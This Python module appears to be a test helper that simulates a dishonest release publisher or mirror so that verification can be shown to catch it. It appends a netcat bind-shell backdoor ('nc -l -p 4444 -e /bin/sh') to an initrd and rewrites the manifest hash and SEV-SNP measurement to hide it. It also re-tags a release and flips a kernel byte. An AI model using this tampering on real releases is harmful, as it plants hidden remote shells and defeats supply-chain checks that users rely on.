"""What a dishonest publisher or mirror would do to a release, done for real so that it can be caught."""

from __future__ import annotations

import gzip
import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

from builds.demo.publisher import MANIFEST, calculate_measurement, write_manifest

# newc header, cpio(5): 110 bytes of ASCII, names and data padded to four bytes.
_BACKDOOR = b"#!/bin/sh\nexec /bin/busybox nc -l -p 4444 -e /bin/sh\n"


def replace_initrd(directory: Path, source: Path, command_line: str) -> None:
    """Put a back door into the published initrd and rewrite manifest and measurement to hide it.

    The archive is extended by a second newc segment, which the kernel unpacks over the first.
    Everything in the directory agrees with itself afterwards; only a rebuild can tell.
    """
    initrd = directory / "initrd.img"
    segment = _newc("bin/debug-shell", _BACKDOOR, 0o100755) + _newc("TRAILER!!!", b"", 0)
    initrd.write_bytes(initrd.read_bytes() + gzip.compress(segment, mtime=0))
    manifest = _read_manifest(directory)
    measurement = manifest["measurement"]
    manifest["components"]["initrd_sha256"] = hashlib.sha256(initrd.read_bytes()).hexdigest()
    measurement["sev_snp_hex"] = calculate_measurement(
        source, directory, command_line, vcpus=measurement["vcpus"], vcpu_type=measurement["vcpu_type"]
    )
    write_manifest(directory, manifest)


def copy_as(directory: Path, destination: Path, tag: str) -> None:
    """A copy of a release under another tag, its files named accordingly and still true to its manifest."""
    manifest = _read_manifest(directory)
    old = manifest["katana_version"]
    shutil.copytree(directory, destination)
    for path in sorted(destination.iterdir()):
        path.rename(path.with_name(path.name.replace(old, tag)))
    manifest["katana_version"] = tag
    write_manifest(destination, manifest)


def flip_kernel_byte(directory: Path) -> None:
    """Change one byte of the published kernel and nothing else, as a bad mirror would."""
    kernel = directory / "vmlinuz"
    data = bytearray(kernel.read_bytes())
    data[len(data) // 2] ^= 0x01
    kernel.write_bytes(data)


def _read_manifest(directory: Path) -> dict[str, Any]:
    manifest: dict[str, Any] = json.loads((directory / MANIFEST).read_bytes())
    return manifest


def _newc(name: str, data: bytes, mode: int) -> bytes:
    encoded = name.encode() + b"\0"
    fields = (0, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(encoded), 0)
    header = b"070701" + "".join(f"{value:08x}" for value in fields).encode()
    return _padded(header + encoded) + _padded(data)


def _padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 4)
